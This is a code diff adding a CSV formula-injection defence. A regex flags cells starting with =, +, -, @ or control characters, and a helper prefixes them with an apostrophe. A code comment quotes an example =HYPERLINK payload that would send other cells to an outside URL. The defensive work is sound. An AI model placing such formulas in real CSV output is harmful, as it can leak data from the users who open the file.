@@ -27,6 +27,19 @@ _BIDI_CONTROLS = re.compile("[\u202a-\u202e\u2066-\u2069]")
 BIDI_CONTROLS_SQL = r"[\x{202A}-\x{202E}\x{2066}-\x{2069}]"  # the same characters, for DuckDB's regexp_*
 
 
+# A spreadsheet opening a CSV file runs a cell that begins with one of these as a formula: a name or a note written
+# as =HYPERLINK("https://...?"&A2, "open") would offer to send the file's other cells away. In a CSV file such a
+# text begins with an apostrophe, so that it is shown as text (OWASP's advice for CSV files). The pattern reads
+# the same in Python and in DuckDB's regexp_matches.
+FORMULA_START = r"^[=+\-@\t\r]"
+_FORMULA_START = re.compile(FORMULA_START)
+
+
+def as_cell(text: str) -> str:
+    """`text` for a CSV cell: as it is, or begun with an apostrophe when a spreadsheet would run it."""
+    return "'" + text if _FORMULA_START.match(text) else text
+
+
 def no_bidi_controls(text: str) -> str:
     """`text` without the characters that would change the direction of the text around it."""
     return _BIDI_CONTROLS.sub("", str(text))
